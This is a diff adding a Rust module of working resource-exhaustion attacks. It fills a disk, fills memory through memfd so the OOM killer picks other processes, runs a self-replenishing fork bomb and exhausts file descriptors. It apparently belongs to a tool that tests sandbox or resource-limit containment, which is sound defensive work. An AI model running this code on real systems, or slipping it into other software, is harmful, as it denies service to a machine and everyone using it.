@@ -1,0 +1,80 @@
+//! Takes all there is of something: disk, memory, processes, descriptors.
+
+use super::{Tried, io};
+use std::io::Write;
+use std::os::fd::FromRawFd;
+use std::time::Duration;
+
+fn fork() -> i32 {
+    // SAFETY: one thread.
+    unsafe { libc::fork() }
+}
+
+pub fn attack(name: &str, args: &[String]) -> Option<Tried> {
+    Some(match name {
+        // fill DIR: until nothing fits any more.
+        "fill" => {
+            let path = std::path::Path::new(args.first()?).join("fill");
+            let mut file = match io(std::fs::File::create(path)) {
+                Ok(file) => file,
+                Err(errno) => return Some(Err(errno)),
+            };
+            for size in [65536, 4096, 1] {
+                while file.write_all(&vec![7u8; size]).is_ok() {}
+            }
+            Ok(())
+        }
+        // memory-lowered: the same, after it has made itself no better a choice for the OOM killer than anybody.
+        "memory-lowered" => {
+            if let Err(errno) = io(std::fs::write("/proc/self/oom_score_adj", "0")) {
+                return Some(Err(errno));
+            }
+            return attack("memory", args);
+        }
+        // memory: its own memory stays small, what it fills is nobody's: the OOM killer has to look elsewhere.
+        "memory" => {
+            // SAFETY: reads a NUL-terminated string.
+            let fd = unsafe { libc::memfd_create(c"m".as_ptr(), 0) };
+            // SAFETY: the descriptor was just made and nobody else's.
+            let mut file = unsafe { std::fs::File::from_raw_fd(fd) };
+            let piece = [7u8; 65536];
+            loop {
+                if let Err(error) = file.write_all(&piece) {
+                    return Some(Err(error.raw_os_error().unwrap_or(0)));
+                }
+            }
+        }
+        // pids: as many as there may be, and they stay.
+        "pids" => {
+            loop {
+                match fork() {
+                    // Nor does a place that becomes free stay free.
+                    0 => loop {
+                        if fork() == -1 {
+                            std::thread::sleep(Duration::from_millis(1));
+                        }
+                    },
+                    -1 => break,
+                    _ => {}
+                }
+            }
+            Ok(())
+        }
+        // descriptors: as many as one may have, in eight processes, and they stay.
+        "descriptors" => {
+            for _ in 0..8 {
+                if fork() == 0 {
+                    // SAFETY: reads a NUL-terminated string.
+                    while unsafe { libc::open(c"/dev/null".as_ptr(), libc::O_RDONLY) } >= 0 {}
+                    loop {
+                        std::thread::sleep(Duration::from_secs(600));
+                    }
+                }
+            }
+            // SAFETY: as above.
+            while unsafe { libc::open(c"/dev/null".as_ptr(), libc::O_RDONLY) } >= 0 {}
+            Ok(())
+        }
+        _ => return None,
+    })
+}
